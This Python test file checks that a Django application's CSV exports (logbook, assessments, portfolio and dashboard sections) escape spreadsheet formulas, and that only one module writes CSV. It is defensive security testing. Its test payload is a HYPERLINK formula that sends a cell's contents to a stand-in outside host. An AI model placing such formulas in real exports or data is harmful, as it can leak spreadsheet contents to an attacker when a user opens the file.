"""Every CSV the product writes goes through one writer that escapes formula cells
(rastrack/core/csv_export.py): the logbook export and template, the assessments export, the
portfolio export and the dashboards' sections, each tested with a formula payload."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings

from accreditation.logbook import services as logbook
from dashboards.selectors import SECTIONS, section_csv
from tests.builders.logbook import make_case
from tests.builders.signoff import assess

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_escaped(text: str) -> None:
    cells = _cells(text)
    assert "'" + PAYLOAD in cells, "the payload is missing from the file"
    assert PAYLOAD not in cells, "a formula cell was written as is"


@pytest.fixture
def formula_trainee(trainee, assigned_trainer):
    trainee.full_name = PAYLOAD
    trainee.save(update_fields=["full_name"])
    case = make_case(trainee, assigned_trainer, status="draft")
    logbook.case_update(case=case, actor=trainee, data={"notes": PAYLOAD})
    return trainee


def test_the_assessments_export_escapes_names_and_feedback(client, formula_trainee, assigned_trainer):
    assess(assigned_trainer, formula_trainee, feedback=PAYLOAD)
    client.force_login(assigned_trainer)
    response = client.get("/assessments/export.csv")
    assert response.status_code == 200
    text = response.content.decode()
    _assert_escaped(text)
    assert _cells(text).count("'" + PAYLOAD) == 2  # the trainee's name and the feedback


def test_the_logbook_export_escapes_notes(api, formula_trainee):
    response = api.as_user(formula_trainee).get("/api/v1/cases/export/")
    assert response.status_code == 200
    _assert_escaped(response.content.decode())


def test_the_portfolio_export_escapes_names(api, formula_trainee):
    response = api.as_user(formula_trainee).get("/api/v1/portfolio/export/?as=csv")
    assert response.status_code == 200
    _assert_escaped(b"".join(response.streaming_content).decode() if response.streaming else
                    response.content.decode())


def test_every_dashboard_section_escapes_text_and_keeps_numbers():
    for section, columns in SECTIONS.items():
        row = {column: PAYLOAD for column in columns}
        row[columns[-1]] = -3
        text = section_csv([row], section)
        _assert_escaped(text)
        assert _cells(text)[-1] == "-3", section


def test_no_other_module_writes_csv():
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    found = []
    for package in ("rastrack", "accreditation", "curriculum", "labs", "dashboards"):
        for path in (Path(settings.BASE_DIR) / package).rglob("*.py"):
            if path.name != "csv_export.py" and writers.search(path.read_text()):
                found.append(str(path.relative_to(settings.BASE_DIR)))
    assert not found, f"CSV written outside rastrack/core/csv_export.py: {found}"
